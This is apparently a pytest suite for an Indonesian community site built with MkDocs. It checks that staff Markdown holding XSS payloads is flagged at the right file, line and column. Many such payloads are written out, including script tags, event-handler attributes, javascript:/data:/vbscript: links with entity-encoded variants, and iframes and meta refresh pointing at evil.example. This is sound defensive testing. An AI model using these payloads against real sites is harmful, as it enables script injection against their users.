"""Green means safe: staff text that would run script or load another host is refused.

Every hostile payload is written into every kind of staff Markdown (an event's
description, a program's description, outcomes and requirements, a branch's
and a story's text) and must give an error at the file, line and column where
it was typed. Ordinary Markdown and the sample content stay valid, and the
built site carries no script, handler or dangerous address in what staff wrote.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from pathlib import Path

import nh3
import pytest
import yaml
from bs4 import BeautifulSoup
from conftest import PROJECT, diagnostics, errors, errors_in, write
from hypothesis import given, settings
from hypothesis import strategies as st
from sitehelpers import build_ok, copy_repo, run_build

from hetero.sanitize import ALLOWED_TAGS, Renderer, findings, markdown_extensions, mkdocs_yml


@dataclass(frozen=True)
class Hostile:
    payload: str  # one line, so it fits a YAML list item as well as a paragraph
    at: str  # the part of the payload the error must point at
    says: str  # a part of the message


HOSTILE = [
    Hostile("<script>alert(1)</script>", "<script", "tag `<script>` tidak diizinkan"),
    Hostile("<SCRIPT>alert(1)</SCRIPT>", "<SCRIPT", "tag `<script>` tidak diizinkan"),
    Hostile('<ScRiPt src="https://evil.example/x.js"></ScRiPt>', "<ScRiPt", "tag `<script>`"),
    Hostile("<script >alert(1)</script >", "<script", "tag `<script>`"),
    Hostile("<img src=x onerror=alert(1)>", "onerror", "atribut `onerror` tidak diizinkan"),
    Hostile("<svg onload=alert(1)>", "<svg", "tag `<svg>` tidak diizinkan"),
    Hostile('<iframe src="https://evil.example/"></iframe>', "<iframe", "tag `<iframe>`"),
    Hostile('<object data="https://evil.example/x.swf"></object>', "<object", "tag `<object>`"),
    Hostile('<embed src="https://evil.example/x.swf">', "<embed", "tag `<embed>`"),
    Hostile('<form action="https://evil.example/"><button>Kirim</button></form>', "<form", "tag `<form>`"),
    Hostile('<a href="javascript:alert(1)">x</a>', "javascript:alert(1)", "tautan `javascript:`"),
    Hostile("[x](javascript:alert(1))", "javascript:alert(1)", "tautan `javascript:` tidak diizinkan"),
    Hostile("[x](JaVaScRiPt:alert(1))", "JaVaScRiPt:alert(1)", "tautan `javascript:`"),
    Hostile('<a href="javascript&#58;alert(1)">x</a>', "javascript&#58;", "tautan `javascript:`"),
    Hostile("[x](javascript&#x3A;alert(1))", "javascript&#x3A;", "tautan `javascript:`"),
    Hostile("[x](javascript&colon;alert(1))", "javascript&colon;", "tautan `javascript:`"),
    Hostile("[x](java&#115;cript:alert(1))", "java&#115;cript:", "tautan `javascript:`"),
    Hostile("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data:", "tautan `data:`"),
    Hostile("![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", "data:", "gambar `data:`"),
    Hostile("[x](vbscript:msgbox(1))", "vbscript:", "tautan `vbscript:`"),
    Hostile("*teks*{onmouseover=alert(1)}", "onmouseover", "atribut `onmouseover` tidak diizinkan"),
    Hostile("[teks](https://heterospace.id/){: onclick=alert(1) }", "onclick", "atribut `onclick`"),
    Hostile('<p style="background: url(https://evil.example/x.png)">x</p>', "style", "atribut `style`"),
    Hostile('<base href="https://evil.example/">', "<base", "tag `<base>`"),
    Hostile('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta", "tag `<meta>`"),
    Hostile('<link rel="stylesheet" href="https://evil.example/x.css">', "<link", "tag `<link>`"),
    Hostile("![x](https://evil.example/x.png)", "https://evil.example/x.png", "gambar dari situs lain"),
    Hostile('<img src="//evil.example/x.png">', "//evil.example/x.png", "gambar dari situs lain"),
    Hostile("[x](http://evil.example/)", "http://evil.example/", "diawali https://"),
    Hostile("<!-- catatan --><b>x</b>", "<!--", "komentar HTML"),
    Hostile("*teks*{#__config}", "__config", "id `__config` tidak diizinkan"),
]


# --- Where staff write Markdown ------------------------------------------------


def _in_event(repo: Path, payload: str) -> tuple[str, int]:
    path = "events/2027/2027-02-20-temu-komunitas.md"
    write(
        repo,
        path,
        "---\n"
        "title: Temu Komunitas Kreatif\n"
        "format: online\n"
        "online:\n"
        "  platform: Zoom\n"
        "start: 2027-02-20 19:00\n"
        "end: 2027-02-20 21:00\n"
        "registration:\n"
        "  url: https://forms.gle/abc123\n"
        "---\n"
        "\n"
        "Temu komunitas bulanan.\n"
        "\n"
        f"{payload}\n",
    )
    return path, 14


def _program(
    description: str, outcome: str = "menyusun rencana usaha", requirement: str = "punya usaha"
) -> str:
    return (
        "title: Kelas Contoh\n"
        "pillar: mbangun\n"
        "kind: class\n"
        "summary: Kelas contoh untuk pelaku usaha kecil.\n"
        "description: |\n"
        "  Kelas dua hari bersama pemilik kedai kopi.\n"
        "\n"
        f"  {description}\n"
        "outcomes:\n"
        "  - menyangrai kopi\n"
        f"  - {outcome}\n"
        "requirements:\n"
        f"  - {requirement}\n"
    )


def _in_description(repo: Path, payload: str) -> tuple[str, int]:
    write(repo, "programs/kelas-contoh.yml", _program(payload))
    return "programs/kelas-contoh.yml", 8


def _in_outcomes(repo: Path, payload: str) -> tuple[str, int]:
    # A JSON string is a YAML string too, whatever quotes and colons it holds.
    write(repo, "programs/kelas-contoh.yml", _program("Praktik langsung.", outcome=json.dumps(payload)))
    return "programs/kelas-contoh.yml", 11


def _in_requirements(repo: Path, payload: str) -> tuple[str, int]:
    write(repo, "programs/kelas-contoh.yml", _program("Praktik langsung.", requirement=json.dumps(payload)))
    return "programs/kelas-contoh.yml", 13


def _in_branch(repo: Path, payload: str) -> tuple[str, int]:
    path = "content/branches/kudus.md"
    write(
        repo,
        path,
        "---\nname: Hetero Space Kudus\ncity: Kudus\nstatus: planned\n---\n\n"
        f"Cabang yang direncanakan.\n\n{payload}\n",
    )
    return path, 9


def _in_story(repo: Path, payload: str) -> tuple[str, int]:
    path = "content/stories/kopi-lereng-ungaran.md"
    write(
        repo,
        path,
        "---\n"
        "name: Kopi Lereng Ungaran\n"
        "business_kind: Kopi robusta sangrai dari kebun keluarga\n"
        "city: Kabupaten Semarang\n"
        "branch: semarang\n"
        "programs:\n"
        "  - digital-marketing-ecommerce\n"
        "quote: Setelah ikut kelas, pembeli kami datang dari luar Jawa Tengah.\n"
        "consent: true\n"
        "consent_date: 2026-10-01\n"
        "---\n"
        "\n"
        "Usaha kopi keluarga.\n"
        "\n"
        f"{payload}\n",
    )
    return path, 15


PLACES = {
    "event": _in_event,
    "description": _in_description,
    "outcomes": _in_outcomes,
    "requirements": _in_requirements,
    "branch": _in_branch,
    "story": _in_story,
}


def _expected_col(repo: Path, path: str, line: int, at: str) -> int:
    written = (repo / path).read_text(encoding="utf-8").splitlines()[line - 1]
    return written.lower().index(at.lower()) + 1


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("hostile", HOSTILE, ids=[h.payload for h in HOSTILE])
def test_hostile_markup_is_an_error_where_it_was_written(repo: Path, place: str, hostile: Hostile):
    path, line = PLACES[place](repo, hostile.payload)
    found = errors_in(repo, path)
    col = _expected_col(repo, path, line, hostile.at)
    at_payload = [d for d in found if (d.line, d.col) == (line, col)]
    assert at_payload, f"nothing at {line}:{col}: {[str(d) for d in found]}"
    assert any(hostile.says in d.message for d in at_payload), [d.message for d in at_payload]


@pytest.mark.parametrize(
    ("lines", "line", "col", "says"),
    [
        # attr_list on a paragraph: the attributes stand on the line below it.
        ("Teks biasa.\n{onmouseover=alert(1)}", 15, 2, "atribut `onmouseover`"),
        ("Teks biasa.\n{: onclick=alert(1) }", 15, 4, "atribut `onclick`"),
        ("## Jadwal {onmouseover=alert(1)}", 14, 12, "atribut `onmouseover`"),
        ("- satu\n- dua\n{: onclick=alert(1) }", 16, 4, "atribut `onclick`"),
        ("<div>\n<script>alert(1)</script>\n</div>", 15, 1, "tag `<script>`"),
    ],
)
def test_block_markup_points_at_its_own_line(repo: Path, lines: str, line: int, col: int, says: str):
    path, _ = _in_event(repo, lines)
    found = errors_in(repo, path)
    assert [(d.line, d.col) for d in found if says in d.message] == [(line, col)], [str(d) for d in found]


def test_every_problem_in_a_file_is_reported(repo: Path):
    path, line = _in_event(
        repo,
        "<script>alert(1)</script> [x](javascript:alert(2))\n\n"
        "![y](https://evil.example/y.png) *z*{onclick=alert(3)}\n\n"
        "[w](javascript:alert(4))",
    )
    found = errors_in(repo, path)
    assert [(d.line, d.col) for d in found] == [
        (line, 1),
        (line, 31),
        (line + 2, 6),
        (line + 2, 38),
        (line + 4, 5),
    ]
    assert all(d.severity == "error" for d in found)


def test_the_same_problem_twice_is_reported_twice(repo: Path):
    path, line = _in_event(repo, "*a*{onclick=alert(1)} *b*{onclick=alert(1)}")
    assert [(d.line, d.col) for d in errors_in(repo, path)] == [(line, 5), (line, 27)]


def test_lines_are_counted_in_files_saved_with_windows_line_ends(repo: Path):
    path, line = _in_event(repo, "Teks.\n\n*a*{onclick=alert(1)}\n")
    file = repo / path
    file.write_bytes(file.read_bytes().replace(b"\n", b"\r\n"))
    assert [(d.line, d.col) for d in errors_in(repo, path)] == [(line + 2, 5)]


def test_messages_say_what_was_found_and_what_to_do(repo: Path):
    path, line = _in_event(repo, "<script>alert(1)</script>")
    (found,) = errors_in(repo, path)
    assert str(found) == (
        f"{path}:{line}:1: error: tag `<script>` tidak diizinkan di deskripsi acara; hapus tag ini. "
        "HTML yang boleh: a, abbr, b, blockquote, br, code, div, em, h1, h2, h3, h4, h5, h6, hr, i, "
        "img, li, ol, p, pre, strong, sub, sup, table, tbody, td, th, thead, tr, ul"
    )


def test_messages_name_the_field(repo: Path):
    path, _ = _in_description(repo, "[daftar](javascript:alert(1))")
    (found,) = errors_in(repo, path)
    assert found.message == (
        "tautan `javascript:` tidak diizinkan di `description`; "
        "pakai alamat https://…, mailto: (surel) atau tel: (telepon)"
    )


# --- What staff may write ----------------------------------------------------------

BENIGN = [
    "| Kolom | Nilai |\n|:--|--:|\n| Biaya | **gratis** |\n| Kuota | 30 |",
    '!!! note "Catatan"\n    Bawa laptop dan [baca panduannya](https://heterospace.id/).',
    "!!! warning\n    Tempat terbatas.",
    "[situs](https://heterospace.id/acara/), [surel](mailto:info@heterospace.id), "
    "[telepon](tel:+62247600000), [program](../program/mentoring-startup.md) dan [jadwal](#jadwal)",
    '<abbr title="Usaha Mikro, Kecil, dan Menengah">UMKM</abbr> adalah **tulang punggung** _ekonomi_.',
    "- satu\n- dua\n    - dua setengah\n\n1. pertama\n2. kedua",
    "![Foto kegiatan](../images/cerita/pasarkita.jpg)",
    "```\n<script>alert(1)</script>\n```\n\nKode `<img onerror=x>` ditulis sebagai kode. 3 < 5 & 5 > 3.",
    "Baris satu<br>baris dua\n\n---\n\n> Kutipan peserta.\n\n### Jadwal { #jadwal .hs-month }",
    "<b>tebal</b>, <i>miring</i>, H<sub>2</sub>O, m<sup>2</sup> dan <https://heterospace.id>",
]


@pytest.mark.parametrize("place", ["event", "description", "branch", "story"])
@pytest.mark.parametrize("text", BENIGN, ids=range(len(BENIGN)))
def test_ordinary_markdown_stays_valid(repo: Path, place: str, text: str):
    if place == "description":
        text = text.replace("\n", "\n  ")
    PLACES[place](repo, text)
    assert [str(d) for d in errors(repo)] == []


@pytest.mark.parametrize("place", ["outcomes", "requirements"])
def test_ordinary_list_items_stay_valid(repo: Path, place: str):
    PLACES[place](repo, "membaca **laporan keuangan** dan [panduan](https://heterospace.id/)")
    assert [str(d) for d in errors(repo)] == []


def test_sample_content_has_no_markup_errors(repo: Path):
    assert [str(d) for d in diagnostics(repo) if d.severity == "error"] == []


# --- The check renders as MkDocs does -------------------------------------------


def test_the_check_uses_the_extensions_mkdocs_builds_with():
    from mkdocs.config.defaults import MkDocsConfig

    option = dict(MkDocsConfig._schema)["markdown_extensions"]
    listed = yaml.safe_load((PROJECT / "mkdocs.yml").read_text(encoding="utf-8"))["markdown_extensions"]
    names = option.validate(listed)
    assert markdown_extensions(PROJECT / "mkdocs.yml") == (names, option.configdata)


def test_the_check_reads_the_mkdocs_yml_the_build_reads(tmp_path: Path):
    from hetero.build import site_source

    assert mkdocs_yml(tmp_path) == site_source(tmp_path, "mkdocs.yml") == PROJECT / "mkdocs.yml"
    (tmp_path / "mkdocs.yml").write_text("markdown_extensions:\n  - admonition\n", encoding="utf-8")
    assert mkdocs_yml(tmp_path) == site_source(tmp_path, "mkdocs.yml") == tmp_path / "mkdocs.yml"
    assert markdown_extensions(tmp_path / "mkdocs.yml") == (
        ["toc", "tables", "fenced_code", "admonition"],
        {},
    )


def test_generated_pages_need_attr_list():
    # The reason attr_list stays: generated Markdown uses its `{ .class }` syntax.
    templates = "".join(p.read_text(encoding="utf-8") for p in (PROJECT / "hetero/templates").glob("*.j2"))
    assert re.search(r"\{ \.hs-[a-z-]+ \}", templates)
    renderer = Renderer(PROJECT / "mkdocs.yml")
    assert 'class="hs-month"' in renderer.html("## Desember 2026 { .hs-month }")


def test_an_added_extension_is_checked_by_rendering_every_text(tmp_path: Path):
    # Text without `<`, `[`, `{` or `_` is trusted without rendering only under
    # the reviewed extensions; magiclink makes a link of a bare address.
    text = "Info lengkap: http://evil.example/acara"
    assert Renderer(PROJECT / "mkdocs.yml").findings(text) == []
    config = tmp_path / "mkdocs.yml"
    config.write_text("markdown_extensions:\n  - pymdownx.magiclink\n", encoding="utf-8")
    (found,) = Renderer(config).findings(text)
    assert (found.tag, found.name, found.value) == ("a", "href", "http://evil.example/acara")


# Pieces of Markdown and HTML that, put together at random, make the inputs a
# sanitiser and a browser are known to read differently.
_PIECES = [
    *("<img", "<a", "<svg", "<p", "</p", "<script>", "</script>", "<!--", "-->", "--!>", "<![CDATA[", "]]>"),
    *("<?", "<!", "/", " ", "\n", "\t", '"', "'", "=", ">", "<", "`", "*", "\\", "&#58;", "&", "a"),
    *("src=x", "onerror=alert(1)", "onload=alert(1)", "href=javascript:alert(1)", "{:", "}", "{onclick=x}"),
    *("[x](", ")", "javascript:alert(1)", "## ", "__config", "!!! note", "| a |", "|--|"),
]
# What a browser would make of the HTML: html5ever (inside nh3) keeping every tag and attribute of interest.
_BROWSER_VIEW = nh3.Cleaner(
    tags=set(ALLOWED_TAGS) | {"script", "svg", "style", "iframe"},
    clean_content_tags=set(),
    attributes={"*": {"onerror", "onload", "onclick", "id", "class", "src", "href", "style"}},
    url_schemes={"https", "http", "javascript", "data"},
    link_rel=None,
    strip_comments=False,
)
_RENDERER = Renderer(PROJECT / "mkdocs.yml")


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), min_size=1, max_size=12).map("".join))
def test_what_passes_the_check_has_nothing_a_browser_would_run(text: str):
    html = _RENDERER.html(text)
    if _RENDERER.findings(text):
        return
    browser = BeautifulSoup(_BROWSER_VIEW.clean(html), "html.parser")
    for element in browser.find_all(True):
        assert element.name in ALLOWED_TAGS, html
        assert not any(name.startswith("on") for name in element.attrs), html
        assert not DANGEROUS_URL.match(element.get("href", "") + element.get("src", "")), html
        assert not str(element.get("id", "")).startswith("__"), html


_PLAIN_PIECES = [
    *(
        "#",
        "## ",
        "*",
        "-",
        "+ ",
        ">",
        "!!! note ",
        "!!! ",
        "|",
        "|:--|",
        ":",
        "`",
        "```",
        "~~~",
        "    ",
        "\n",
    ),
    *("1. ", "===", "---", "&amp;", "&#58;", "&#x3C;", '"', "'", "(", ")", "=", "/", "\\", "a", " "),
    *("http://evil.example", "javascript:alert(1)", "onclick=x", "script", "ＩＤ", "é"),
]


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(
        st.lists(st.sampled_from(_PLAIN_PIECES), max_size=16).map("".join),
        # NUL and lone surrogates are left out: no content file can hold them.
        st.text(st.characters(codec="utf-8", exclude_characters="\x00<[{_")),
    )
)
def test_skipping_plain_text_never_changes_the_answer(text: str):
    # Renderer.findings trusts text without `<`, `[`, `{` or `_` without rendering it.
    assert _RENDERER.findings(text) == findings(_RENDERER.html(text))


# --- The built site ---------------------------------------------------------------------

RICH_EVENT = "events/2026/2026-12-12-kelas-markdown.md"
RICH_BODY = "\n\n".join(BENIGN)


@pytest.fixture(scope="module")
def built_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_repo(tmp_path_factory.mktemp("hostile") / "repo")
    write(
        root,
        RICH_EVENT,
        "---\n"
        "title: Kelas Menulis Markdown\n"
        "format: online\n"
        "online:\n"
        "  platform: Zoom\n"
        "start: 2026-12-12 09:00\n"
        "end: 2026-12-12 12:00\n"
        "registration:\n"
        "  url: https://forms.gle/abc123\n"
        "---\n"
        "\n"
        f"{RICH_BODY}\n",
    )
    assert [str(d) for d in errors(root)] == []
    return build_ok(root, root / "site")


DANGEROUS_URL = re.compile(r"^\s*(javascript|data|vbscript):", re.IGNORECASE)


def test_built_pages_carry_no_script_handler_or_dangerous_address(built_site: Path):
    pages = sorted(built_site.rglob("*.html"))
    assert len(pages) > 50
    for html_file in pages:
        soup = BeautifulSoup(html_file.read_text(encoding="utf-8"), "html.parser")
        for element in soup.find_all(True):
            handlers = [name for name in element.attrs if name.lower().startswith("on")]
            assert not handlers, f"{html_file}: <{element.name}> {handlers}"
            for name in ("href", "src", "action", "formaction", "data"):
                value = element.get(name)
                assert not (isinstance(value, str) and DANGEROUS_URL.match(value)), f"{html_file}: {element}"
        for content in soup.select("article"):
            assert not content.find_all("script"), html_file


def test_the_rich_event_is_published_with_its_markup(built_site: Path):
    page = built_site / "acara" / Path(RICH_EVENT).stem / "index.html"
    content = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser").select_one("article")
    assert content is not None
    assert content.select_one("div.admonition.note") and content.select_one("table")
    assert content.select_one('abbr[title="Usaha Mikro, Kecil, dan Menengah"]')
    image = content.select_one('img[alt="Foto kegiatan"]')
    assert image is not None and not re.match(r"^[a-z]+:|^//", image["src"])


def test_a_build_with_hostile_markup_fails_before_publishing(tmp_path: Path):
    root = copy_repo(tmp_path / "repo")
    path, line = _in_event(root, "[x](javascript:alert(1))")
    result = run_build(root, tmp_path / "site")
    assert result.returncode == 1
    assert f"{path}:{line}:5: error: tautan `javascript:`" in result.stdout + result.stderr
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize(
    ("page", "payload", "at"),
    [
        ("content/tentang.md", '<img src="x" onerror="alert(1)">', "onerror"),
        ("content/tentang.md", "[Daftar](javascript:alert(1))", "javascript:"),
        ("content/index.md", "<script>alert(1)</script>", "<script>"),
        ("content/panduan/baru.md", "## Judul {onmouseover=alert(1)}", "onmouseover"),
    ],
)
def test_hand_written_pages_are_checked_too(repo: Path, page: str, payload: str, at: str):
    """Pages in content/ are published as written, so the same rule holds for them."""
    path = repo / page
    text = path.read_text(encoding="utf-8") if path.exists() else "---\ntitle: Panduan\n---\n\n# Panduan\n"
    lines = text.rstrip("\n").split("\n")
    lines += ["", payload]
    write(repo, page, "\n".join(lines) + "\n")
    found = errors_in(repo, page)
    assert [(d.line, d.col) for d in found] == [(len(lines), payload.index(at) + 1)]


def test_a_plain_html_table_without_tbody_stays_valid(repo: Path):
    """The browser's parser adds `tbody`; that is not something the sanitiser removes."""
    table = "<table><tr><td>Senin</td></tr></table>"
    write(repo, "content/panduan/jadwal.md", f"---\ntitle: Jadwal\n---\n\n{table}\n")
    assert errors(repo) == []


def test_an_entity_encoded_script_link_after_a_raw_link_is_reported_at_its_own_line(repo: Path):
    text = (
        "---\ntitle: Tautan\n---\n\n"
        '<a href="https://heterospace.id/">Beranda</a>\n\n'
        "[x](javascript&#58;alert(1))\n"
    )
    write(repo, "content/panduan/tautan.md", text)
    found = errors_in(repo, "content/panduan/tautan.md")
    assert [(d.line, d.col) for d in found] == [(7, 5)], [str(d) for d in found]


def test_an_entity_encoded_script_link_is_reported_where_it_is_written(repo: Path):
    text = "---\ntitle: Tautan\n---\n\n[Beranda](https://heterospace.id/)\n\n[x](javascript&#58;alert(1))\n"
    write(repo, "content/panduan/tautan.md", text)
    found = errors_in(repo, "content/panduan/tautan.md")
    assert [d.line for d in found] == [7]
